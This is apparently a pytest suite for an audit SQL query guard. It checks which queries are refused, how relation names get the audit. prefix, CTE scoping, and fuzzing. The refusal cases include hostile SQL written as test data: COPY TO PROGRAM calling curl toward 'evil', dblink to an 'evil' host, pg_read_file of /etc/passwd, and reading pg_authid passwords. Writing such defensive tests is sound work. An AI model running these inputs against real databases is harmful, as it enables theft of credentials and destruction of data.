"""The audit query guard: what it refuses (with a code), what it lets through, and that what
it lets through is the query as written, with audit. before every relation that is not a CTE."""

from __future__ import annotations

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from tests.support.audit_queries import Generated, audit_query
from tutopanda.audit.guard import QueryRefused, guard
from tutopanda.audit.vocabulary import ALLOWED_FUNCTIONS, REFUSED_WORDS, SYNTAX_WORDS

REFUSED = {
    "insert": ("INSERT INTO app.projects (created_by) VALUES ('x')", "statement"),
    "update": ("UPDATE audit.lecture_history SET actor = 'x'", "statement"),
    "delete": ("DELETE FROM app.lecture_revisions", "statement"),
    "ddl": ("DROP TABLE app.projects", "statement"),
    "create": ("CREATE TABLE audit.mine AS SELECT 1", "statement"),
    "listen": ("LISTEN tutopanda_events", "statement"),
    "notify": ("NOTIFY tutopanda_events, 'forged'", "syntax"),
    "two statements": ("SELECT 1; SELECT 2", "statement"),
    "writable cte": (
        "WITH gone AS (DELETE FROM app.projects RETURNING id) SELECT * FROM gone",
        "statement",
    ),
    "for update": ("SELECT * FROM audit.lecture_history FOR UPDATE", "statement"),
    "for share": ("SELECT * FROM audit.lectures FOR SHARE", "statement"),
    "select into": ("SELECT * INTO audit.copy FROM audit.lecture_history", "statement"),
    "explain": ("EXPLAIN ANALYZE SELECT 1", "statement"),
    "set": ("SET statement_timeout = 0", "statement"),
    "begin": ("BEGIN", "statement"),
    "lock": ("LOCK TABLE app.projects", "statement"),
    "copy": ("COPY (SELECT * FROM audit.lecture_history) TO PROGRAM 'curl evil'", "statement"),
    "comment hides a statement": (
        "SELECT 1 /* harmless */; -- and then\nDROP TABLE app.projects",
        "statement",
    ),
    "empty": ("   ", "statement"),
    "pg_sleep": ("SELECT pg_sleep(60)", "function"),
    "set_config": ("SELECT set_config('role', 'postgres', false)", "function"),
    "current_setting": ("SELECT current_setting('data_directory')", "function"),
    "pg_notify": ("SELECT pg_notify('tutopanda_events', '{}')", "function"),
    "advisory lock": ("SELECT pg_advisory_lock(1)", "function"),
    "lo_create": ("SELECT lo_create(0)", "function"),
    "dblink": ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", "function"),
    "lo_import": ("SELECT lo_import('/etc/passwd')", "function"),
    "pg_read_file": ("SELECT pg_read_file('/etc/passwd')", "function"),
    "nextval": ("SELECT nextval('app.projects_id_seq')", "function"),
    "quoted function name": ('SELECT "pg_sleep"(1)', "function"),
    "upper-case function name": ("SELECT PG_SLEEP(1)", "function"),
    "function after a comment": ("SELECT pg_sleep /* x */ (1)", "function"),
    "qualified allowed name elsewhere": ("SELECT audit.revision_hash(NULL)", "function"),
    "schema-qualified function": ("SELECT public.lower('a')", "function"),
    "operator syntax": ("SELECT 1 OPERATOR(pg_catalog.+) 1", "function"),
    "function in FROM": ("SELECT * FROM pg_stat_get_activity(NULL)", "function"),
    "rows from": ("SELECT * FROM ROWS FROM (pg_sleep(1))", "relation"),
    "tablesample": ("SELECT * FROM audit.lectures TABLESAMPLE SYSTEM (10)", "function"),
    "app table": ("SELECT * FROM app.projects", "relation"),
    "app in a subquery": (
        "SELECT * FROM audit.lectures WHERE owner IN (SELECT created_by FROM app.projects)",
        "relation",
    ),
    "pg_catalog secrets": ("SELECT rolpassword FROM pg_catalog.pg_authid", "relation"),
    "information_schema": ("SELECT * FROM information_schema.tables", "relation"),
    "cross database": ("SELECT * FROM other.audit.lectures", "relation"),
    "regrole cast": ("SELECT 10::regrole", "relation"),
    "regclass literal": ("SELECT regclass 'pg_authid'", "relation"),
    "quoted regtype": ('SELECT CAST(16 AS "regtype")', "relation"),
    "e-string": ("SELECT E'\\'' FROM audit.lectures", "lexical"),
    "unicode string": ("SELECT U&'\\0041'", "lexical"),
    "unicode identifier": ('SELECT u&"d\\0061t" FROM audit.lectures', "lexical"),
    "dollar quoting": ("SELECT $$a$$", "lexical"),
    "dollar in a name": ("SELECT x$a$ , 1 --$a$\nFROM audit.lectures", "lexical"),
    "parameter": ("SELECT * FROM audit.lectures WHERE lecture_id = $1", "lexical"),
    "bit string": ("SELECT B'101'", "lexical"),
    "hex": ("SELECT 0x1F", "lexical"),
    "control character": ("SELECT 1\x0b", "lexical"),
    "nul": ("SELECT 1\x00", "lexical"),
    "not sql": ("this is not sql at all ((", "syntax"),
    "too deep": ("SELECT " + "(" * 3000 + "1" + ")" * 3000, "too_complex"),
    "too long": ("SELECT 1" + " " * 100_000, "too_complex"),
}


@pytest.mark.parametrize(("query", "code"), REFUSED.values(), ids=REFUSED.keys())
def test_refused_with_a_code_and_one_line(query: str, code: str) -> None:
    with pytest.raises(QueryRefused) as refused:
        guard(query)
    assert refused.value.code == code
    assert "\n" not in str(refused.value)


RUN_AS_WRITTEN = [
    "SELECT * FROM audit.lecture_history",
    "select actor, count(*) from audit.lecture_history group by actor",
    "SELECT date_part('day', changed_at), EXTRACT(day FROM changed_at) FROM audit.lecture_history",
    "SELECT mode() WITHIN GROUP (ORDER BY actor) FROM audit.lecture_history",
    "SELECT regexp_replace(actor, '\\s+', ' ', 'g'), starts_with(actor, 'a') FROM audit.lectures",
    "SELECT ARRAY[1, 2], ARRAY(SELECT 1), data ? 'title', data ?| ARRAY['a'] FROM audit.x",
    "SELECT s, count(*) FROM audit.lecture_history, unnest(changed_sections) AS s (name) "
    "GROUP BY s",
    "SELECT row_number() OVER (PARTITION BY lecture_id ORDER BY revision) FROM audit.history_chain",
    "SELECT coalesce(title, 'it''s'), CAST(1 AS numeric(10, 2)), interval '1 day' FROM audit.x",
    'SELECT pg_catalog.lower(title), "Title" FROM audit.x',
    "WITH RECURSIVE t (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t",
    "SELECT 1;",
]


@pytest.mark.parametrize("query", RUN_AS_WRITTEN)
def test_accepted_queries_run_as_written(query: str) -> None:
    assert guard(query).sql == query.removesuffix(";")


def test_comments_never_reach_the_server() -> None:
    sql = guard("SELECT 1 /* ; DROP TABLE x */ -- ; DELETE\n, 2 -- trailing").sql
    assert sql == "SELECT 1\n, 2"


def test_unqualified_relations_are_audit_views_but_visible_ctes_stay_ctes() -> None:
    sql = guard('WITH t AS (SELECT 1 AS x) SELECT * FROM t, lectures, "Lectures"').sql
    assert sql == 'WITH t AS (SELECT 1 AS x) SELECT * FROM t, audit.lectures, audit."Lectures"'


SCOPING = {
    # a CTE named inside another CTE is not visible outside it
    "nested cte": (
        "WITH x AS (WITH pg_roles AS (SELECT 1) SELECT 1) SELECT rolname, rolsuper FROM pg_roles",
        "WITH x AS (WITH pg_roles AS (SELECT 1) SELECT 1) SELECT rolname, rolsuper "
        "FROM audit.pg_roles",
    ),
    # nor outside its subquery
    "cte in a subquery": (
        "SELECT * FROM (WITH pg_settings AS (SELECT 1) SELECT 1) AS s, pg_settings",
        "SELECT * FROM (WITH pg_settings AS (SELECT 1) SELECT 1) AS s, audit.pg_settings",
    ),
    # nor in the other branch of a set operation
    "set operation": (
        "(WITH pg_roles AS (SELECT 1) SELECT 1) UNION SELECT 1 FROM pg_roles",
        "(WITH pg_roles AS (SELECT 1) SELECT 1) UNION SELECT 1 FROM audit.pg_roles",
    ),
    # a non-recursive CTE does not see itself, nor the ones after it
    "self reference": (
        "WITH pg_roles AS (SELECT * FROM pg_roles) SELECT * FROM pg_roles",
        "WITH pg_roles AS (SELECT * FROM audit.pg_roles) SELECT * FROM pg_roles",
    ),
    "later sibling": (
        "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
        "WITH a AS (SELECT * FROM audit.b), b AS (SELECT 1) SELECT * FROM a",
    ),
    "earlier sibling": (
        "WITH b AS (SELECT 1), a AS (SELECT * FROM b) SELECT * FROM a",
        "WITH b AS (SELECT 1), a AS (SELECT * FROM b) SELECT * FROM a",
    ),
    # quoting: "PG_ROLES" is not pg_roles
    "quoted upper case": (
        'WITH "PG_ROLES" AS (SELECT 1) SELECT * FROM pg_roles',
        'WITH "PG_ROLES" AS (SELECT 1) SELECT * FROM audit.pg_roles',
    ),
    "unquoted upper case": (
        'WITH PG_ROLES AS (SELECT 1) SELECT * FROM "pg_roles"',
        'WITH PG_ROLES AS (SELECT 1) SELECT * FROM "pg_roles"',
    ),
    # sqlglot merges a parenthesised WITH into the WITH before it: refused, not misjudged
    "merged with lists": (
        "WITH a AS (SELECT * FROM pg_roles) (WITH RECURSIVE b AS (SELECT 1) SELECT * FROM a)",
        None,
    ),
    # a parenthesised query's own ORDER BY and LIMIT are checked too
    "parenthesised query": (
        "(SELECT 1) ORDER BY (SELECT count(*) FROM pg_roles)",
        "(SELECT 1) ORDER BY (SELECT count(*) FROM audit.pg_roles)",
    ),
    "lateral": (
        "SELECT * FROM audit.lectures AS l, LATERAL (WITH pg_roles AS (SELECT 1) SELECT 1) AS y, "
        "LATERAL (SELECT * FROM pg_roles) AS z",
        "SELECT * FROM audit.lectures AS l, LATERAL (WITH pg_roles AS (SELECT 1) SELECT 1) AS y, "
        "LATERAL (SELECT * FROM audit.pg_roles) AS z",
    ),
}


@pytest.mark.parametrize(("query", "expected"), SCOPING.values(), ids=SCOPING.keys())
def test_cte_names_are_scoped_like_postgresql(query: str, expected: str | None) -> None:
    if expected is None:
        with pytest.raises(QueryRefused):
            guard(query)
    else:
        assert guard(query).sql == expected


@settings(max_examples=400, deadline=None)
@given(audit_query())
def test_fuzz_every_relation_that_is_not_a_visible_cte_is_qualified(generated: Generated) -> None:
    if generated.refused:
        with pytest.raises(QueryRefused) as refused:
            guard(generated.text)
        assert refused.value.code == "syntax"
    else:
        assert guard(generated.text).sql == generated.expected


@settings(max_examples=200, deadline=None)
@given(audit_query(), st.lists(st.sampled_from(["/* c; */", "-- ; x\n", "\n\t"]), min_size=1))
def test_fuzz_comments_change_nothing(generated: Generated, comments: list[str]) -> None:
    assume(not generated.refused)
    pieces = generated.text.split(" ")
    noisy = "".join(
        piece + (f" {comments[i % len(comments)]} " if i < len(pieces) - 1 else "")
        for i, piece in enumerate(pieces)
    )
    assert guard(noisy).sql.split() == generated.expected.split()


def test_the_word_lists_do_not_overlap() -> None:
    assert not (ALLOWED_FUNCTIONS | SYNTAX_WORDS) & REFUSED_WORDS


PIECES = [
    "SELECT", "FROM", "WHERE", "WITH", "RECURSIVE", "AS", "UNION", "(", ")", ",", ";", "*", "1",
    "x", "pg_roles", "audit", ".", "lectures", "'s'", '"q"', "count", "(*)", "--", "/*", "*/",
    "$", "E'", "\\", "::", "regclass", "LATERAL", "JOIN", "ON", "true", "OVER", "ARRAY[", "]",
    "\n", "u&", "&", "FOR", "UPDATE", "INTO", "VALUES", "TABLE",
]  # fmt: skip


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30), st.sampled_from([" ", ""]))
def test_fuzz_anything_is_a_result_or_a_refusal(pieces: list[str], joiner: str) -> None:
    text = joiner.join(pieces)
    message = ""
    try:
        guard(text)
    except QueryRefused as refused:  # anything else (a crash) fails the test
        message = str(refused)
    assert "\n" not in message
